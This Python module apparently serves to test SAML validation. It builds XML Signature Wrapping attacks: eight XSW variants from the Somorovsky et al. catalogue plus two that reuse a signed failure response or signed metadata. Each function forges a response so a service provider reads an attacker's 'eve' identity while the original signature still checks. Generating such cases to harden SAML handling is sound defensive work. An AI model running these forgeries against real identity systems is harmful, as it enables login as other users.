"""Signature wrapping: a signed message in which something else than what was signed is offered to be read.

XSW1 to XSW8 are those of Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (USENIX Security 2012), as
SAML Raider numbers them; the others go around a rule that only counts assertions.
"""

from __future__ import annotations

from copy import deepcopy

from lxml import etree

from identity.saml.forging import (
    ASSERTION,
    IDP,
    PREFIXES,
    RESPONSE,
    SAMLP,
    Seal,
    assertion_signed,
    changed,
    response_signed,
    sign,
    wrap,
)

EVE = "eve@example.com"


def find(root: etree._Element, path: str) -> etree._Element:
    found = root.find(path, PREFIXES)
    assert found is not None
    return found


def make_evil(element: etree._Element) -> etree._Element:
    """A copy of the element, without signatures, that speaks of Eve."""
    evil = deepcopy(element)
    for number, identified in enumerate(evil.xpath("descendant-or-self::*[@ID]")):
        identified.set("ID", f"_evil-{number}")
    for signature in list(evil.iter("{*}Signature")):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    find(evil, ".//saml:NameID").text = EVE
    return evil


def without_signature(element: etree._Element) -> tuple[etree._Element, etree._Element]:
    """A copy of the element without its signature, and that."""
    bare = deepcopy(element)
    signature = find(bare, "ds:Signature")
    bare.remove(signature)
    return bare, signature


def wrap_response(*, in_signature: bool) -> bytes:
    """The root is Eve's response; the signed one lies in its signature (XSW1) or before it (XSW2)."""
    original, signature = without_signature(etree.fromstring(response_signed()))
    evil = make_evil(original)
    evil.insert(1, signature)
    if in_signature:
        signature.append(original)
    else:
        evil.insert(1, original)
    return etree.tostring(evil)


def xsw1() -> bytes:
    return wrap_response(in_signature=True)


def xsw2() -> bytes:
    return wrap_response(in_signature=False)


def xsw3() -> bytes:
    """Eve's assertion stands before the signed one."""
    root = etree.fromstring(assertion_signed())
    signed = find(root, "saml:Assertion")
    signed.addprevious(make_evil(signed))
    return etree.tostring(root)


def xsw4() -> bytes:
    """Eve's assertion holds the signed one."""
    root = etree.fromstring(assertion_signed())
    signed = find(root, "saml:Assertion")
    evil = make_evil(signed)
    root.replace(signed, evil)
    evil.append(signed)
    return etree.tostring(root)


def take_signature() -> tuple[etree._Element, etree._Element, etree._Element]:
    """A response with Eve's assertion, which has the signature of the one that was there; the signature; that one."""
    root = etree.fromstring(assertion_signed())
    original, signature = without_signature(find(root, "saml:Assertion"))
    evil = make_evil(original)
    evil.insert(1, signature)
    root.replace(find(root, "saml:Assertion"), evil)
    return root, signature, original


def xsw5() -> bytes:
    """Eve's assertion has the signature; the one that it signs is the last in the response."""
    root, _, original = take_signature()
    root.append(original)
    return etree.tostring(root)


def xsw6() -> bytes:
    """Eve's assertion has the signature, which holds the one that it signs."""
    root, signature, original = take_signature()
    signature.append(original)
    return etree.tostring(root)


def xsw7() -> bytes:
    """Eve's assertion is in Extensions, before the signed one."""
    root = etree.fromstring(assertion_signed())
    signed = find(root, "saml:Assertion")
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(make_evil(signed))
    signed.addprevious(extensions)
    return etree.tostring(root)


def xsw8() -> bytes:
    """Eve's assertion has the signature, with the one that it signs in an Object."""
    root, signature, original = take_signature()
    container = etree.SubElement(signature, f"{{{PREFIXES['ds']}}}Object")
    container.append(original)
    return etree.tostring(root)


def signed_failure_inside() -> bytes:
    """The provider signed that a login failed, which holds no assertion; Eve's response has it and its signature."""
    failure = changed(RESPONSE, ("_response-1", "_failure-1"), ("status:Success", "status:Responder"))
    original, signature = without_signature(etree.fromstring(sign(failure)))
    evil = etree.fromstring(wrap(ASSERTION.replace("ada@example.com", EVE)))
    evil.insert(1, signature)
    find(evil, "samlp:Status").append(original)
    return etree.tostring(evil)


def signed_metadata_inside() -> bytes:
    """The provider signed its metadata with the same key; Eve's assertion has the signature and they are in a value."""
    metadata = (
        f'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="_md-1" entityID="{IDP}">'
        '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/></md:EntityDescriptor>'
    )
    original, signature = without_signature(etree.fromstring(Seal().sign(metadata, 'SAML:2.0:assertion"/>')))
    evil = etree.fromstring(ASSERTION.replace("ada@example.com", EVE))
    evil.insert(1, signature)
    find(evil, ".//saml:AttributeValue").append(original)
    return wrap(etree.tostring(evil).decode()).encode()
